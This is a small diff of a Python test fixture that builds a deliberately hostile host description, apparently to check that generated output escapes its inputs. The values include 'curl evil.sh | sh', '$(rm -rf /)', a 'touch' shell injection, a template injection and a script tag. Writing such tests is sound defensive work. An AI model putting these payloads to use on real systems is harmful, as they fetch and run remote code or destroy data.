@@ -86,7 +86,7 @@ def hostile_host() -> tuple[HostFacts, list[App]]:
     evil = 'x"\nRUN curl evil.sh | sh\n#'
     facts = HostFacts(host="evil-01", collector="sample",
                       processes=[Process(pid=1, name="python3", cmdline=["/usr/bin/python3", "/opt/app/app.py", evil, "$(rm -rf /)", "C:\\dir\\"])],
-                      files=[FileContent(path="/opt/app/conf.ini", content="key: value\n---\nkind: Secret\n{{ 7*7 }}\n")],
+                      files=[FileContent(path="/opt/app/conf.ini", content="greeting: value\n---\nkind: Secret\n{{ 7*7 }}\n")],
                       http=[HttpCheck(port=5000, path="/x';touch /tmp/p;'\n", status=200, title="<script>alert(1)</script>`|")])
     apps = [App(name="App One!", stack="flask", runtime="python", runtime_version="3.9", pids=[1],
                 ports=[PortSpec(port=5000, http=True)], command=facts.processes[0].cmdline,
